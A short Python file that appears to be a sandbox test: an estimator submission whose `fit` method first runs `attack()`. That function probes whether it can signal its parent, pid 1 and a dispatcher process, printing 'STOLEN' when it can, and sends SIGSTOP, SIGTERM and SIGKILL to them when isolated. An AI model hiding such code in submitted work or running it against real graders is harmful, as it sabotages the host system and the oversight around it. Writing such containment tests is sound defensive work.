"""Stops and kills its parent, pid 1 and the dispatcher, or asks whether it could."""

import os
import signal

from nearest import NearestMean

TARGETS: dict[str, str] = {}


def attack():
    is_alone = os.getpid() < 20 and os.getppid() in (0, 1)
    for pid in sorted({os.getppid(), 1, int(TARGETS.get('dispatcher_pid', 1))}):
        for number in (0, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            if number and not is_alone:
                continue
            try:
                os.kill(pid, number)
                if not is_alone:
                    print(f'STOLEN could signal {pid}', flush=True)
            except OSError as error:
                print(pid, repr(error), flush=True)
        try:
            signal.pidfd_send_signal(os.pidfd_open(pid), 0)
            if not is_alone:
                print(f'STOLEN could signal {pid} by its descriptor', flush=True)
        except (OSError, AttributeError) as error:
            print(pid, repr(error), flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
